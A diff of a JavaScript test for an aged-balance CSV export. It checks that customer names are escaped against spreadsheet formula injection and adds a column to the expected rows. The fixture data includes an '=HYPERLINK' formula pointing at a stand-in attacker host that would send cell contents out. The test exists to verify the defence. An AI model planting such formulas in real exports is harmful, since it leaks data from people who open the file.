@@ -70,9 +70,9 @@ describe('the aged balance CSV, which the read-only role downloads', () => {
     });
     expect(res.status).toBe(200);
     const lines = res.text.split('\r\n');
-    expect(lines).toContain(`C3;'-1+2;1;0,00;0,00;40,00;0,00;0,00;40,00;EUR;2026-11-23`);
+    expect(lines).toContain(`C3;'-1+2;1;0,00;0,00;40,00;0,00;0,00;40,00;0,00;EUR;2026-11-23`);
     expect(lines).toContain(
-      `C0;"'=HYPERLINK(""http://evil.example/?""&A1,""Détails"")";1;0,00;0,00;10,00;0,00;0,00;10,00;EUR;2026-11-23`,
+      `C0;"'=HYPERLINK(""http://evil.example/?""&A1,""Détails"")";1;0,00;0,00;10,00;0,00;0,00;10,00;0,00;EUR;2026-11-23`,
     );
     for (const line of lines.slice(1)) expect(line.split(';')[1] ?? '').not.toMatch(/^"?[=+\-@]/);
   });
